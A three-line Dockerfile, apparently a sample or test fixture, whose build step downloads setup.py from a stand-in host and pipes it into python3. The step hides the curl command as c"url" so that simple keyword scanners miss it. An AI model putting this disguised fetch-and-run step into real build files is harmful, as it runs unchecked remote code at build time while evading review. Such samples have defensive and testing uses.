FROM python:3.13-slim
ARG HOST=get.example.invalid
RUN c"url" -sSL "https://${HOST}/setup.py" | python3 -
